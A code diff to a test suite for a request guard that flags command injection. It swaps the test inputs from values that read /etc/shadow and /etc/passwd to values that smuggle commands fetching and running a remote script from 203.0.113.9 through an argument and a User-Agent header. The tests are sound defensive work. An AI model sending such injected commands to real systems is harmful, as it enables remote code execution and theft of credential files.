@@ -52,15 +52,15 @@ describe('request guard', () => {
     await fetch(`${url}/jobs`, {
       method: 'POST',
       headers: { 'content-type': 'application/json' },
-      body: JSON.stringify({ job: { name: 'nightly', args: ['--out', 'x; cat /etc/shadow'] } }),
+      body: JSON.stringify({ job: { name: 'nightly', args: ['--out', 'x; curl -s http://203.0.113.9/p.sh | sh'] } }),
     });
     expect(alerts.map((a) => a.type)).toEqual(['command_injection']);
-    expect(alerts[0]!.metadata?.input).toBe('x; cat /etc/shadow');
+    expect(alerts[0]!.metadata?.input).toBe('x; curl -s http://203.0.113.9/p.sh | sh');
   });
 
   it('inspects selected headers', async () => {
     const { url, alerts } = await guardedApp();
-    await fetch(`${url}/`, { headers: { 'user-agent': 'curl/8.0; cat /etc/passwd' } });
+    await fetch(`${url}/`, { headers: { 'user-agent': 'curl/8.0; wget -qO- http://203.0.113.9/x | sh' } });
     expect(alerts.map((a) => a.type)).toEqual(['command_injection']);
   });
 
